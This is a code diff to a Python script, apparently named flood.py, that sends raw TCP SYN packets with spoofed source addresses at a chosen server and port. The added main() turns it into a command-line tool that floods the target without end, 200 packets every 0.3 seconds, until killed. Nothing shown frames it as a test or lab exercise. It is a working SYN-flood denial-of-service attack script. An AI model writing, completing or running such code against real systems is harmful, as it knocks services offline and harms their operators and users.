@@ -7,6 +7,8 @@ from __future__ import annotations
 
 import socket
 import struct
+import sys
+import time
 
 _MOST = 1000
 
@@ -37,3 +39,14 @@ def half_open(server: str, port: int, *, count: int) -> None:
         for number in range(count):
             source = socket.inet_aton(f"198.18.9.{1 + number % 250}")
             raw.sendto(_syn(source, destination, 10_000 + number, port), (server, 0))
+
+
+def main() -> None:
+    """Go on, some times a second, until killed: `python flood.py ADDRESS PORT`."""
+    while True:
+        half_open(sys.argv[1], int(sys.argv[2]), count=200)
+        time.sleep(0.3)  # the rate, and no wait for anything
+
+
+if __name__ == "__main__":
+    main()
